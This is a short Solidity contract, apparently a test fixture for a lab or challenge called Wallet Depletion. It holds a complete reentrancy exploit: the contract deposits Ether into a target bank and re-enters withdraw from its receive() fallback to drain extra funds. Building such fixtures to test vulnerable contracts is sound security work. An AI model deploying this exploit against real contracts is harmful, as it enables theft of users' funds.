// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// The attacker of Wallet Depletion (used by the server's chain test and the sandbox journey): deposits, then
// withdraws again from inside the bank's payment.
interface IBank { function ethdeposit(address account) external payable; function withdraw(uint256 amount) external; }
contract Drain {
    IBank private immutable bank;
    uint256 private rounds;
    constructor(IBank target) { bank = target; }
    function attack() external payable {
        bank.ethdeposit{value: msg.value}(address(this));
        bank.withdraw(msg.value);
    }
    receive() external payable {
        if (rounds < 3) { rounds++; bank.withdraw(msg.value); }
    }
}
